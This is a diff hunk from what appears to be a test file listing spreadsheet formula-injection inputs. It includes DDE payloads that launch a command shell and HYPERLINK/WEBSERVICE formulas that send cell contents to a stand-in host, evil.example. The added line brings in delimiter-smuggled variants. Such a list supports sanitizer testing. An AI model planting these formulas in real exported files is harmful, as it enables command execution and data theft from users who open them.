@@ -131,7 +131,7 @@ FORMULAS = [
     "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example?x="&A1,"klik")', '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://e","//a")',
     "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", '=DDE("cmd";"/C calc";"x")',
-    "-1", "+62 21 5201590", "%0A=1+1",
+    "-1", "+62 21 5201590", "%0A=1+1", "a;=1+1", 'a,"=1+1"', "a;\t=1+1", "a\n@SUM(1)", ";;;=1", "a;'=1+1",
 ]  # fmt: skip
 
 
